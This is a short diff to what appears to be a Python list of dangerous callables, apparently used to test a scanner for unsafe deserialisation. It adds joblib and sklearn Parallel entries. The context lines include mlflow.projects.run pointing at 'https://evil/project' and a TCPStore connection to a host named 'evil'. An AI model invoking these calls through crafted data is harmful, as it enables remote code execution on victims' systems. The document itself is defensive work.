@@ -152,6 +152,8 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("torch.backends.xeon.run_cpu", "main", ("args",)),
         ("torch.cuda._memory_viz", "format_flamegraph", ("x",)),
         ("ray", "init", ()),
+        ("joblib", "Parallel", (8,)),
+        ("sklearn.utils.parallel", "Parallel", (8,)),
         ("mlflow.projects", "run", ("https://evil/project",)),
         # a torch module re-exports torch itself: the path is torch.distributed.TCPStore
         ("torch.nn.functional", "torch.distributed.TCPStore", ("evil", 1)),
